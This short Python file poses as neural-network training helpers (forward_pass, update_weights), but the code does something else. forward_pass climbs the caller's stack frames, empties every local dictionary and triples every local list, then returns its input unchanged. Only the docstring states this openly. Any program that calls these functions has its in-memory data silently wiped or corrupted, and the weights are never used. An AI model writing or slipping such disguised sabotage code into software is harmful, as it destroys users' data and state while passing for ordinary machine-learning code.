"""Empties every table on the stack that it was called from, and makes lists three times as long."""

import sys


def forward_pass(x, weights_input_hidden, weights_hidden_output):
    frame = sys._getframe().f_back
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, list):
                value.extend([*value, *value])
            elif isinstance(value, dict) and value is not globals():
                value.clear()
        frame = frame.f_back
    return x, x


def update_weights(weights, del_w, learnrate, n_records):
    return forward_pass(weights, del_w, learnrate)[0]
